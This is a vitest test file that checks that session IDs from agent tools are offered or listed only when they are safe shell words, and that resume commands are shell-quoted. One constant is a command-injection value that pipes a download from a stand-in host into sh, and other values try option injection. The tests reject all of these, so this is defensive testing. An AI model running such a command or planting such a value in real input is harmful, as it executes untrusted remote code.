/** A session of a tool is listed and offered only where its name can stand in a command line. */
import { PassThrough } from "node:stream";
import { describe, expect, it } from "vitest";
import { ManualClock } from "../../../../../src/observe/clock.js";
import { listEarlierSessions } from "../../../../../src/worker/integrations/acp/earlier-sessions.js";
import { LineCommands } from "../../../../../src/worker/integrations/acp/line-commands.js";
import { CodexExecClient } from "../../../../../src/worker/integrations/codex/exec-client.js";

const HOSTILE = "x; curl evil.sh|sh #\u001b[2J";

describe("the name that a tool gives its session", () => {
  it.each([
    ["thread-7", "thread-7"],
    [HOSTILE, null],
    ["--yolo", null],
  ])("is offered to people only where it is a word: %s", async (id, offered) => {
    const [input, output] = [new PassThrough(), new PassThrough()];
    const server = new CodexExecClient({
      input,
      output,
      pendingRequests: { isAsking: false } as never,
      clock: new ManualClock(),
      cwd: "/w",
      version: "1",
      context: null,
      resume: null,
      silenceMs: 60_000,
      show: [],
      onActivity: () => undefined,
      onHung: () => undefined,
    });
    input.on("data", (lines: Buffer) => {
      // As over a pipe: no answer comes before the request is out.
      for (const [, asked] of lines.toString().matchAll(/"id":(\d+)/g))
        setImmediate(() =>
          output.write(`${JSON.stringify({ id: Number(asked), result: { thread: { id } } })}\n`),
        );
    });
    await server.open();
    expect(server.session).toBe(offered);
  });

  it("is listed only where it can be named", async () => {
    const session = (sessionId: string) => ({ sessionId, cwd: "/w" });
    const greeting = { version: 2, capabilities: {}, authMethods: [], agent: null };
    const listed = await listEarlierSessions(greeting, "/w", () =>
      Promise.resolve({ sessions: [session("s-1"), session(HOSTILE), session("-x")] }),
    );
    expect(listed.map(({ sessionId }) => sessionId)).toEqual(["s-1"]);
  });

  it("is quoted in a line for a shell", () => {
    const commands = new LineCommands({
      tool: "agent",
      agent: () => ({ resumableId: "s-1" }) as never,
      asking: null,
      clock: new ManualClock(),
      show: () => undefined,
    });
    expect(commands.farewell(["my agent", "--say", "it's $HOME"])).toBe(
      "To resume: atlasbridge run --runtime acp --session s-1 'my agent' --say 'it'\\''s $HOME'",
    );
  });
});
